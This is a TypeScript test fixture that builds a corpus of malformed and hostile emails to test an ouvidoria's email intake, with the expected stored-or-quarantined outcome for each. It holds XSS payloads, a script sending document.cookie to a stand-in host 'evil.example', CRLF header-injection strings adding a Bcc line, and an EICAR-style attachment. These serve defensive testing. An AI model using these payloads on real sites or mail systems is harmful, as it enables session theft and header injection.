/**
 * A corpus of hostile and broken inbound emails, generated in code (nothing large is stored in
 * the repository). Each entry says how the email intake must end it:
 * - `stored`: a case record with a normal outcome (anything but QUARANTINED);
 * - `quarantined`: a QUARANTINED record with its reason, and no reply;
 * - `either`: mail whose reading is legitimately a judgement call (half-broken MIME); it must still
 *   end in one of the two, never in an unhandled error.
 * Used by test/integration/hostile-corpus.test.ts (and usable by the benchmark).
 */
import type { Verdicts } from '../../shared/domain/submission';

export type HostileExpectation = 'stored' | 'quarantined' | 'either';

export interface HostileMail {
  name: string;
  raw: Buffer;
  expect: HostileExpectation;
  /** Envelope sender (SES `mail.source`); defaults to the From address of the entry. */
  mailFrom?: string;
  /** SES verdicts; all PASS when omitted. */
  verdicts?: Partial<Verdicts>;
  /** Expected start of the quarantine reason (parseProblem / decision reason), when it matters. */
  reason?: RegExp;
}

export const CORPUS_SENDER = 'lojista@modasbella.com.br';
export const CORPUS_RECIPIENT = 'ouvidoria@ouvidoria.example.com.br';
/** A ticket the seeded directory knows, opened by CORPUS_SENDER: such mail is ACCEPTED. */
export const CORPUS_TICKET = '48213';

/** Markers of active content: none of them may reach an outgoing email or page unescaped. */
export const XSS_PAYLOADS = {
  script: '<script>alert("xss")</script>',
  img: '<img src=x onerror=alert(1)>',
  link: '<a href="javascript:alert(document.cookie)">clique</a>',
  svg: '<svg onload=alert(1)>',
  quoteBreak: '"><script>alert(2)</script>',
} as const;

const CRLF = '\r\n';
const COMPLAINT =
  'Olá, abri o chamado #48213 há duas semanas sobre a integração com os Correios que parou de calcular o frete ' +
  'e até agora ninguém resolveu. Minha loja está perdendo vendas todos os dias.';

function baseHeaders(overrides: Record<string, string | null> = {}): string[] {
  const defaults: Record<string, string> = {
    From: `Marina Costa <${CORPUS_SENDER}>`,
    To: CORPUS_RECIPIENT,
    Subject: 'Reclamação sobre o chamado #48213',
    Date: 'Tue, 24 Nov 2026 10:58:00 -0300',
    'Message-ID': '<hostile-base@mail.modasbella.com.br>',
    'MIME-Version': '1.0',
  };
  const merged: Record<string, string | null> = { ...defaults, ...overrides };
  return Object.entries(merged)
    .filter((entry): entry is [string, string] => entry[1] !== null)
    .map(([name, value]) => `${name}: ${value}`);
}

/** A message from header lines and a body (string bodies are UTF-8). */
function mail(headers: string[], body: string | Buffer = ''): Buffer {
  const head = Buffer.from(headers.join(CRLF) + CRLF + CRLF, 'utf8');
  return Buffer.concat([head, typeof body === 'string' ? Buffer.from(body, 'utf8') : body]);
}

function textMail(overrides: Record<string, string | null> = {}, body: string | Buffer = COMPLAINT): Buffer {
  return mail(baseHeaders({ 'Content-Type': 'text/plain; charset=utf-8', ...overrides }), body);
}

const b64 = (s: string | Buffer) => (typeof s === 'string' ? Buffer.from(s, 'utf8') : s).toString('base64');
const wrap76 = (s: string) => s.replace(/.{1,76}/g, '$&\r\n');

/** Deterministic pseudo-random bytes (no Math.random: the corpus is the same on every run). */
function pseudoRandomBytes(length: number, seed: number): Buffer {
  const out = Buffer.alloc(length);
  let x = seed >>> 0 || 1;
  for (let i = 0; i < length; i++) {
    x ^= x << 13;
    x ^= x >>> 17;
    x ^= x << 5;
    out[i] = x & 0xff;
  }
  return out;
}

function nestedMultipart(levels: number): Buffer {
  let body = `Content-Type: text/plain; charset=utf-8${CRLF}${CRLF}${COMPLAINT}${CRLF}`;
  for (let level = levels; level >= 1; level--) {
    const boundary = `nivel-${level}`;
    body =
      `Content-Type: multipart/mixed; boundary="${boundary}"${CRLF}${CRLF}` +
      `--${boundary}${CRLF}${body}--${boundary}--${CRLF}`;
  }
  return Buffer.concat([Buffer.from(`${baseHeaders().join(CRLF)}${CRLF}`), Buffer.from(body)]);
}

function nestedRfc822(levels: number): Buffer {
  let inner = textMail({ From: `Suporte <suporte@ajuda.example.com.br>`, Subject: 'Re: chamado #48213' });
  for (let level = 1; level <= levels; level++) {
    const boundary = `encaminhada-${level}`;
    const headers = baseHeaders({
      Subject: `Fwd: nível ${level}`,
      'Content-Type': `multipart/mixed; boundary="${boundary}"`,
    });
    inner = mail(
      headers,
      Buffer.concat([
        Buffer.from(
          `--${boundary}${CRLF}Content-Type: text/plain; charset=utf-8${CRLF}${CRLF}Segue a conversa encaminhada (nível ${level}).${CRLF}` +
            `--${boundary}${CRLF}Content-Type: message/rfc822${CRLF}Content-Disposition: attachment; filename="conversa-${level}.eml"${CRLF}${CRLF}`,
        ),
        inner,
        Buffer.from(`${CRLF}--${boundary}--${CRLF}`),
      ]),
    );
  }
  return inner;
}

function multipartAlternative(text: string, html: string, extraHeaders: Record<string, string> = {}): Buffer {
  const boundary = 'alt-7f3a';
  return mail(
    baseHeaders({ 'Content-Type': `multipart/alternative; boundary="${boundary}"`, ...extraHeaders }),
    `--${boundary}${CRLF}Content-Type: text/plain; charset=utf-8${CRLF}${CRLF}${text}${CRLF}` +
      `--${boundary}${CRLF}Content-Type: text/html; charset=utf-8${CRLF}${CRLF}${html}${CRLF}` +
      `--${boundary}--${CRLF}`,
  );
}

function withAttachment(
  attachment: { filenameHeader: string; contentType: string; encoded: string },
  overrides: Record<string, string | null> = {},
): Buffer {
  const boundary = 'mixed-91c2';
  return mail(
    baseHeaders({ 'Content-Type': `multipart/mixed; boundary="${boundary}"`, ...overrides }),
    `--${boundary}${CRLF}Content-Type: text/plain; charset=utf-8${CRLF}${CRLF}${COMPLAINT}${CRLF}` +
      `--${boundary}${CRLF}Content-Type: ${attachment.contentType}${CRLF}` +
      `Content-Disposition: attachment; ${attachment.filenameHeader}${CRLF}Content-Transfer-Encoding: base64${CRLF}${CRLF}` +
      `${attachment.encoded}${CRLF}--${boundary}--${CRLF}`,
  );
}

/** A 30 MB message: one base64 attachment, built in memory (over the default 25 MiB limit). */
function thirtyMegabyteMail(): Buffer {
  const attachmentBytes = 22 * 1024 * 1024; // base64 → ~30 MB on the wire
  const encoded = wrap76(pseudoRandomBytes(attachmentBytes, 30).toString('base64'));
  return withAttachment({
    filenameHeader: 'filename="backup-da-loja.zip"',
    contentType: 'application/zip',
    encoded,
  });
}

const XSS_HTML =
  `<html><head><script>document.location='https://evil.example/?c='+document.cookie</script>` +
  `<style>body{background:url(javascript:alert(1))}</style></head><body>` +
  `<p>Olá, abri o chamado #48213 e ninguém resolveu.</p>${XSS_PAYLOADS.script}${XSS_PAYLOADS.img}` +
  `<p>${XSS_PAYLOADS.link}</p>${XSS_PAYLOADS.svg}<iframe src="javascript:alert(3)"></iframe>` +
  `<form action="javascript:alert(4)"><input onfocus=alert(5) autofocus></form></body></html>`;

/** Every entry of the corpus (at least 40), in a stable order. */
export function hostileCorpus(): HostileMail[] {
  const tenThousandRecipients = Array.from({ length: 10_000 }, (_, i) => `destinatario${i}@lojas-exemplo.com.br`);
  const fiveHundredFrom = Array.from({ length: 500 }, (_, i) => `Remetente ${i} <remetente${i}@lojas-exemplo.com.br>`);

  const entries: HostileMail[] = [
    // --- empty and header-only -------------------------------------------------------------
    { name: 'zero-byte message', raw: Buffer.alloc(0), expect: 'quarantined', reason: /empty message/ },
    {
      name: 'headers only, no blank line, no body',
      raw: Buffer.from(baseHeaders().join(CRLF)),
      expect: 'stored',
    },
    { name: 'headers and blank line, empty body', raw: textMail({}, ''), expect: 'stored' },
    { name: 'blank lines only', raw: Buffer.from(`${CRLF}${CRLF}${CRLF}`), expect: 'quarantined' },
    {
      name: 'body text without any header',
      raw: Buffer.from(`${COMPLAINT}${CRLF}Obrigada.${CRLF}`),
      expect: 'quarantined',
      reason: /no header fields/,
    },

    // --- multipart structure -----------------------------------------------------------------
    {
      name: 'truncated multipart: no closing boundary, cut inside a base64 part',
      raw: mail(
        baseHeaders({ 'Content-Type': 'multipart/mixed; boundary="cortada"' }),
        `--cortada${CRLF}Content-Type: text/plain; charset=utf-8${CRLF}${CRLF}${COMPLAINT}${CRLF}` +
          `--cortada${CRLF}Content-Type: application/pdf${CRLF}Content-Transfer-Encoding: base64${CRLF}${CRLF}` +
          `JVBERi0xLjQKJcOkw7zDtsOfCjIgMCBvYmoKPDwvTGVuZ3RoIDMgMCBSL0Zp`,
      ),
      expect: 'stored',
    },
    {
      name: 'multipart without a boundary parameter',
      raw: mail(
        baseHeaders({ 'Content-Type': 'multipart/mixed' }),
        `--x${CRLF}Content-Type: text/plain${CRLF}${CRLF}${COMPLAINT}${CRLF}--x--${CRLF}`,
      ),
      expect: 'quarantined',
      reason: /multipart without boundary/,
    },
    {
      name: 'declared boundary never appears in the body',
      raw: mail(baseHeaders({ 'Content-Type': 'multipart/mixed; boundary="fantasma"' }), `${COMPLAINT}${CRLF}`),
      expect: 'either',
    },
    {
      name: 'boundary of 500 characters and parts with no headers',
      raw: mail(
        baseHeaders({ 'Content-Type': `multipart/mixed; boundary="${'b'.repeat(500)}"` }),
        `--${'b'.repeat(500)}${CRLF}${CRLF}${COMPLAINT}${CRLF}--${'b'.repeat(500)}--${CRLF}`,
      ),
      expect: 'either',
    },
    { name: 'deeply nested multiparts: 100 levels', raw: nestedMultipart(100), expect: 'either' },
    {
      name: '2,000 tiny sibling parts',
      raw: mail(
        baseHeaders({ 'Content-Type': 'multipart/mixed; boundary="muitas"' }),
        `${Array.from(
          { length: 2000 },
          (_, i) => `--muitas${CRLF}Content-Type: text/plain; charset=utf-8${CRLF}${CRLF}parte ${i}${CRLF}`,
        ).join('')}--muitas--${CRLF}`,
      ),
      expect: 'either',
    },

    // --- transfer encodings ----------------------------------------------------------------
    {
      name: 'bad base64: characters outside the alphabet',
      raw: textMail(
        { 'Content-Transfer-Encoding': 'base64' },
        `${b64(COMPLAINT).slice(0, 40)}!!**%%ç${b64(COMPLAINT).slice(40)}@@`,
      ),
      expect: 'stored',
    },
    {
      name: 'base64 cut mid-quantum (length not a multiple of 4)',
      raw: textMail({ 'Content-Transfer-Encoding': 'base64' }, b64(COMPLAINT).slice(0, -3)),
      expect: 'stored',
    },
    {
      name: 'bad quoted-printable: =ZZ, lone = and an overlong line',
      raw: textMail(
        { 'Content-Transfer-Encoding': 'quoted-printable' },
        `Ol=C3=A1, abri o chamado #48213 =ZZ e =\r\nnada=\r\n${'x'.repeat(5000)}=C3${CRLF}fim =`,
      ),
      expect: 'stored',
    },
    {
      name: 'unknown Content-Transfer-Encoding',
      raw: textMail({ 'Content-Transfer-Encoding': 'x-uuencode-ish' }, COMPLAINT),
      expect: 'stored',
    },

    // --- charsets ----------------------------------------------------------------------------
    {
      name: 'unknown charset label',
      raw: textMail({ 'Content-Type': 'text/plain; charset=x-klingon-9' }, Buffer.from(COMPLAINT, 'latin1')),
      expect: 'stored',
    },
    {
      name: 'lying charset: Latin-1 bytes labelled UTF-8',
      raw: textMail({ 'Content-Type': 'text/plain; charset=utf-8' }, Buffer.from(COMPLAINT, 'latin1')),
      expect: 'stored',
    },
    {
      name: 'lying charset: UTF-8 bytes labelled ISO-8859-1',
      raw: textMail({ 'Content-Type': 'text/plain; charset=iso-8859-1' }, Buffer.from(COMPLAINT, 'utf8')),
      expect: 'stored',
    },
    {
      name: 'UTF-7 body with encoded markup',
      raw: textMail(
        { 'Content-Type': 'text/plain; charset=utf-7' },
        `Chamado 48213 +ADw-script+AD4-alert(1)+ADw-/script+AD4-`,
      ),
      expect: 'stored',
    },
    {
      name: 'UTF-16LE body with BOM, labelled',
      raw: textMail(
        { 'Content-Type': 'text/plain; charset=utf-16' },
        Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(COMPLAINT, 'utf16le')]),
      ),
      expect: 'stored',
    },
    {
      name: 'UTF-16LE body without a charset label',
      raw: textMail({ 'Content-Type': 'text/plain' }, Buffer.from(COMPLAINT, 'utf16le')),
      expect: 'stored',
    },
    {
      name: '8-bit raw UTF-8 headers (no RFC 2047)',
      raw: textMail({ From: `José Ação <${CORPUS_SENDER}>`, Subject: 'Reclamação: chamado nº 48213 não resolvido' }),
      expect: 'stored',
    },
    {
      name: '8-bit raw Latin-1 headers',
      raw: Buffer.concat([
        Buffer.from(
          `From: Jos\xe9 Concei\xe7\xe3o <${CORPUS_SENDER}>\r\nTo: ${CORPUS_RECIPIENT}\r\nSubject: Reclama\xe7\xe3o chamado 48213\r\n` +
            `Content-Type: text/plain; charset=iso-8859-1\r\n\r\n`,
          'latin1',
        ),
        Buffer.from(COMPLAINT, 'latin1'),
      ]),
      expect: 'stored',
    },
    {
      name: 'malformed RFC 2047: unknown encoding, unterminated, bad base64',
      raw: textMail({
        From: `=?utf-8?X?Zm9v?= =?utf-8?B?Sm9z6Q <${CORPUS_SENDER}>`,
        Subject:
          '=?utf-8?B?!!!notbase64!!!?= =?iso-8859-1?Q?Reclama=E7=E3o =?unknown-cs?Q?x?= chamado 48213 =?utf-8?Q?',
      }),
      expect: 'stored',
    },

    // --- messages inside messages -------------------------------------------------------------
    { name: 'nested message/rfc822: 3 levels', raw: nestedRfc822(3), expect: 'stored' },
    { name: 'nested message/rfc822: 12 levels', raw: nestedRfc822(12), expect: 'stored' },
    {
      name: 'message/rfc822 part that is empty',
      raw: mail(
        baseHeaders({ 'Content-Type': 'multipart/mixed; boundary="vazia"' }),
        `--vazia${CRLF}Content-Type: text/plain; charset=utf-8${CRLF}${CRLF}${COMPLAINT}${CRLF}` +
          `--vazia${CRLF}Content-Type: message/rfc822${CRLF}${CRLF}${CRLF}--vazia--${CRLF}`,
      ),
      expect: 'stored',
    },
    {
      name: 'message/rfc822 part that is binary garbage',
      raw: mail(
        baseHeaders({ 'Content-Type': 'multipart/mixed; boundary="lixo"' }),
        Buffer.concat([
          Buffer.from(
            `--lixo${CRLF}Content-Type: text/plain; charset=utf-8${CRLF}${CRLF}${COMPLAINT}${CRLF}` +
              `--lixo${CRLF}Content-Type: message/rfc822${CRLF}${CRLF}`,
          ),
          pseudoRandomBytes(4096, 7),
          Buffer.from(`${CRLF}--lixo--${CRLF}`),
        ]),
      ),
      expect: 'stored',
    },

    // --- sizes ----------------------------------------------------------------------------------
    {
      name: '30 MB attachment (over the 25 MiB limit)',
      raw: thirtyMegabyteMail(),
      expect: 'quarantined',
      reason: /oversized/,
    },
    { name: '10,000 recipients in To', raw: textMail({ To: tenThousandRecipients.join(', ') }), expect: 'stored' },
    {
      name: '2 MB subject',
      raw: textMail({ Subject: `Chamado 48213 ${'muito urgente '.repeat(150_000)}` }),
      expect: 'either',
    },
    {
      name: 'huge single body line (5 MB, no line break)',
      raw: textMail({}, `${COMPLAINT} ${'a'.repeat(5 * 1024 * 1024)}`),
      expect: 'stored',
    },
    {
      name: 'References header of 300 KB folded over 10,000 lines',
      raw: textMail({
        References: Array.from({ length: 10_000 }, (_, i) => `<ref${i}@mail.modasbella.com.br>`).join(`${CRLF} `),
      }),
      expect: 'stored',
    },

    // --- control characters and garbage -------------------------------------------------------------
    {
      name: 'NUL bytes in the body',
      raw: textMail({}, `Ol\u0000á, chamado #48213\u0000\u0000 não resolvido.\u0000`),
      expect: 'stored',
    },
    {
      name: 'NUL bytes in headers',
      raw: textMail({ Subject: 'Chamado\u0000 48213\u0000', From: `Mari\u0000na <${CORPUS_SENDER}>` }),
      expect: 'either',
    },
    { name: 'binary garbage (64 KB)', raw: pseudoRandomBytes(65_536, 42), expect: 'quarantined' },
    {
      name: 'binary garbage after valid headers',
      raw: textMail({ 'Content-Type': 'application/octet-stream' }, pseudoRandomBytes(65_536, 43)),
      expect: 'either',
    },
    {
      name: 'Content-Type garbage',
      raw: textMail({ 'Content-Type': ';;;===; charset="; boundary=;;\u00ff\u00fe text/ / /' }),
      expect: 'either',
    },
    {
      name: 'header lines without colons in the header block',
      raw: mail([...baseHeaders(), 'isto não é um cabeçalho', '  nem isto', ': só dois-pontos'], COMPLAINT),
      expect: 'either',
    },
    {
      name: 'LF-only line endings',
      raw: Buffer.from(
        `${baseHeaders({ 'Content-Type': 'text/plain; charset=utf-8' }).join('\n')}\n\n${COMPLAINT}\n`,
        'utf8',
      ),
      expect: 'stored',
    },
    {
      name: 'CR-only line endings',
      raw: Buffer.from(
        `${baseHeaders({ 'Content-Type': 'text/plain; charset=utf-8' }).join('\r')}\r\r${COMPLAINT}\r`,
        'utf8',
      ),
      expect: 'either',
    },
    {
      name: 'duplicate headers: two From, two Subject, two Content-Type',
      raw: mail(
        [
          ...baseHeaders({ 'Content-Type': 'text/plain; charset=utf-8' }),
          'From: Outra Pessoa <outra@concorrente.example>',
          'Subject: Segundo assunto',
          'Content-Type: text/html; charset=iso-8859-1',
        ],
        COMPLAINT,
      ),
      expect: 'stored',
    },
    {
      name: 'Date and Message-ID garbage',
      raw: textMail({
        Date: 'ontem à tarde, 32/13/99 99:99',
        'Message-ID': `<${'<'.repeat(50)}@@@>> ${'x'.repeat(3000)}`,
      }),
      expect: 'stored',
    },

    // --- senders -------------------------------------------------------------------------------
    {
      name: 'missing From and null envelope sender',
      raw: textMail({ From: null }),
      mailFrom: '',
      expect: 'quarantined',
      reason: /missing sender/,
    },
    {
      name: 'missing From, envelope sender known',
      raw: textMail({ From: null }),
      mailFrom: CORPUS_SENDER,
      expect: 'stored',
    },
    { name: 'From with 500 addresses', raw: textMail({ From: fiveHundredFrom.join(', ') }), expect: 'stored' },
    {
      name: 'From as an empty group',
      raw: textMail({ From: 'undisclosed-recipients:;' }),
      mailFrom: '',
      expect: 'either',
    },
    {
      name: 'From address with bidi overrides and spaces',
      raw: textMail({ From: `Marina <loj\u202eista@modasbella.com.br >` }),
      expect: 'either',
    },

    // --- injection ----------------------------------------------------------------------------
    {
      name: 'CRLF injection in the From name (encoded-word =0D=0A)',
      raw: textMail({
        From: `=?UTF-8?Q?Marina=0D=0ABcc:_vitima@example.com=0D=0AX-Injected:_1?= <${CORPUS_SENDER}>`,
      }),
      expect: 'stored',
    },
    {
      name: 'CRLF injection in the Subject (base64 encoded-word)',
      raw: textMail({
        Subject: `=?UTF-8?B?${b64('Chamado 48213\r\nBcc: vitima@example.com\r\n\r\n<script>x</script>')}?=`,
      }),
      expect: 'stored',
    },
    {
      name: 'percent-encoded CRLF in Subject and From name',
      raw: textMail({
        Subject: 'Chamado 48213%0d%0aBcc:%20vitima@example.com%0D%0A',
        From: `"Marina%0d%0aBcc: vitima@example.com" <${CORPUS_SENDER}>`,
      }),
      expect: 'stored',
    },
    {
      name: 'XSS in From name, Subject and attachment filename',
      raw: withAttachment(
        {
          filenameHeader: `filename="${XSS_PAYLOADS.img.replace(/"/g, '')}.pdf"`,
          contentType: 'application/pdf',
          encoded: b64('%PDF-1.4 falso'),
        },
        {
          From: `=?UTF-8?B?${b64(XSS_PAYLOADS.quoteBreak)}?= <${CORPUS_SENDER}>`,
          Subject: `=?UTF-8?B?${b64(`Chamado 48213 ${XSS_PAYLOADS.script}${XSS_PAYLOADS.link}`)}?=`,
        },
      ),
      expect: 'stored',
    },

    // --- active content -----------------------------------------------------------------------------------
    {
      name: 'HTML-only body with scripts and javascript: links',
      raw: textMail({ 'Content-Type': 'text/html; charset=utf-8' }, XSS_HTML),
      expect: 'stored',
    },
    {
      name: 'multipart/alternative whose text part carries markup and the HTML part scripts',
      raw: multipartAlternative(`${COMPLAINT} ${XSS_PAYLOADS.script} ${XSS_PAYLOADS.link}`, XSS_HTML),
      expect: 'stored',
    },

    // --- verdicts --------------------------------------------------------------------------------------
    {
      name: 'virus verdict FAIL (EICAR-like attachment)',
      raw: withAttachment({
        filenameHeader: 'filename="nota-fiscal.exe"',
        contentType: 'application/octet-stream',
        encoded: b64('X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'),
      }),
      verdicts: { virus: 'FAIL' },
      expect: 'quarantined',
    },
    {
      name: 'spoofed sender: DMARC FAIL',
      raw: textMail(),
      verdicts: { spf: 'FAIL', dkim: 'FAIL', dmarc: 'FAIL' },
      expect: 'quarantined',
    },
    {
      name: 'spoofed sender: DMARC FAIL under the domain’s p=reject',
      raw: textMail(),
      verdicts: { spf: 'FAIL', dkim: 'FAIL', dmarc: 'FAIL', dmarcPolicy: 'REJECT' },
      expect: 'quarantined',
    },
    {
      // The domain's owner asks for no action on failures: decided (it still joins no case) — and,
      // citing her ticket, which the rules would accept in her name though her own domain's check
      // failed it, held for review (domain/unproven-mail.ts). Guidance mail of that kind is answered
      // (test/unit/app/intake.test.ts).
      name: 'DMARC FAIL under the domain’s p=none (monitoring only)',
      raw: textMail(),
      verdicts: { spf: 'FAIL', dkim: 'FAIL', dmarc: 'FAIL', dmarcPolicy: 'NONE' },
      expect: 'quarantined',
    },
  ];
  return entries;
}
